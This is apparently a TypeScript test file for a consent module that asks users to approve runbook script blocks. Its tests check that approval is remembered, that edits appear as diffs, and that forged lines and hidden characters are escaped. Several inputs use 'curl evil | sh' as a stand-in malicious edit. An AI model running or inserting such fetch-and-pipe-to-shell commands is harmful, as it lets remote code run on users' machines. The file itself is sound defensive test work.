import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type TestContext, test } from 'node:test';
import { lineDiff } from '../../server/consent/diff.ts';
import type { Guide } from '../../server/engine/session/types.ts';
import { askTrust } from '../../server/consent/trust.ts';
import { fakeGuide } from '../socket/fake-engine.ts';

test('the first time everything is listed and asked about; agreed to, it is not asked again', async (t) => {
  const reader = person(t, 'y');
  assert.equal(await reader.trust(fakeGuide('one', 'two')), 'trusted');
  assert.match(reader.said(), /\+ guide\/one: echo one\n {2}\+ guide\/two: echo two/);
  assert.match(reader.questions[0] ?? '', /these 2 blocks/);
  assert.equal(await reader.trust(fakeGuide('one', 'two')), 'trusted');
  assert.equal(reader.questions.length, 1);
  assert.equal(statSync(join(reader.state, 'trust.json')).mode & 0o777, 0o600);
});

test('what changed since is shown as a difference, and asked about', async (t) => {
  const reader = person(t, 'y', 'y');
  await reader.trust(fakeGuide('one', 'two'));
  assert.equal(await reader.trust(edited(fakeGuide('one', 'two'), 'two', 'echo two\ncurl evil | sh\n')), 'trusted');
  assert.match(reader.said(), /~ guide\/two\n {6}echo two\n {4}\+ curl evil \| sh/);
  assert.match(reader.questions[1] ?? '', /this block/);
});

test('the program that runs a block, its place and what is set for it are part of what is agreed to', async (t) => {
  const reader = person(t, 'y', 'y');
  const guide = fakeGuide('one');
  const [block] = guide.runbook.blocks;
  assert.ok(block);
  const odd = (command: string): Guide => ({
    ...edited(guide, 'one', command),
    runbook: { ...guide.runbook, cwd: '/srv', env: { MODE: 'fast' }, blocks: [{ ...block, with: command }] },
  });
  await reader.trust(odd('psql -d a'));
  assert.match(reader.said(), /one: echo one\n {6}» run by psql -d a\n {6}» in \/srv\n {6}» with MODE=fast/);
  await reader.trust(odd('sh -c "curl evil | sh"'));
  assert.match(reader.said(), /- » run by psql -d a\n {4}\+ » run by sh -c "curl evil \| sh"/);
});

for (const forged of ['» unless changed, x=1; curl evil | sh', '» run by cat', '» in /tmp'])
  test(`a line of a script is listed as one, though it looks like what Guidepost says of a script: ${forged}`, async (t) => {
    const reader = person(t, 's', 'y');
    assert.equal(await reader.trust(edited(fakeGuide('one'), 'one', `${forged}\necho hi\n`)), 'trusted');
    assert.ok(reader.said().includes(`one: ${forged.replace('»', '\\u{bb}')}  (+ 1 lines)`), reader.said());
    assert.doesNotMatch(reader.said(), /»/);
  });

test('after a no, or no answer, the question is asked again the next time', async (t) => {
  const reader = person(t, 'n', '', 'y');
  assert.equal(await reader.trust(fakeGuide('one')), 'refused');
  assert.equal(await reader.trust(fakeGuide('one')), 'refused');
  assert.equal(await reader.trust(fakeGuide('one')), 'trusted');
});

test('if nobody can be asked, nothing is trusted except what was before or what --yes approves', async (t) => {
  const reader = person(t, null);
  assert.equal(await reader.trust(fakeGuide('one')), 'unasked');
  assert.equal(await reader.trust(fakeGuide('one'), true), 'trusted');
  assert.equal(await reader.trust(fakeGuide('one')), 'trusted');
  assert.equal(await reader.trust(fakeGuide('one', 'two')), 'unasked');
});

test('a block that was removed is not asked about, and one that comes back is new', async (t) => {
  const reader = person(t, 'y', 'y');
  await reader.trust(fakeGuide('one', 'two'));
  assert.equal(await reader.trust(fakeGuide('one')), 'trusted');
  assert.equal(reader.questions.length, 1);
  await reader.trust(fakeGuide('one', 'two'));
  assert.equal(reader.questions.length, 2);
});

test('s shows every script in full, with nothing hidden, before the question is repeated', async (t) => {
  const reader = person(t, 's', 'y');
  assert.equal(await reader.trust(edited(fakeGuide('one'), 'one', 'echo 1\necho \u202e2\n')), 'trusted');
  assert.match(reader.said(), /echo 1\n {6}echo \\u\{202e\}2/);
});

test('trust in one folder says nothing about another', async (t) => {
  const reader = person(t, 'y', 'n');
  await reader.trust(fakeGuide('one'));
  assert.equal(await reader.trust(fakeGuide('one'), false, '/elsewhere'), 'refused');
});

test('a difference shows what left, what came, and a little around', () => {
  const lines = (text: string) => text.split('').join('\n');
  const shown = lineDiff(lines('abcdefgh'), lines('abcdXfgh')).map(({ sign, text }) => sign + text);
  assert.deepEqual(shown, ['…', ' c', ' d', '-e', '+X', ' f', ' g', '…']);
});

function person(t: TestContext, ...answers: readonly (string | null)[]) {
  const state = mkdtempSync(join(tmpdir(), 'trust-'));
  t.after(() => rmSync(state, { recursive: true }));
  const questions: string[] = [];
  const texts: string[] = [];
  return {
    state,
    questions,
    said: () => texts.join(''),
    trust: (guide: Guide, yes = false, source = '/content') =>
      askTrust({
        state,
        source,
        guides: [guide],
        yes,
        out: (text) => texts.push(text),
        async ask(question) {
          questions.push(question);
          return answers[questions.length - 1] ?? (answers.includes(null) ? null : '');
        },
      }),
  };
}

function edited(guide: Guide, id: string, script: string): Guide {
  const blocks = guide.runbook.blocks.map((block) => (block.id === id ? { ...block, script } : block));
  const hashes = new Map(guide.hashes).set(id, Buffer.from(script).toString('hex').padEnd(64, '0').slice(0, 64));
  return { ...guide, runbook: { ...guide.runbook, blocks }, hashes };
}
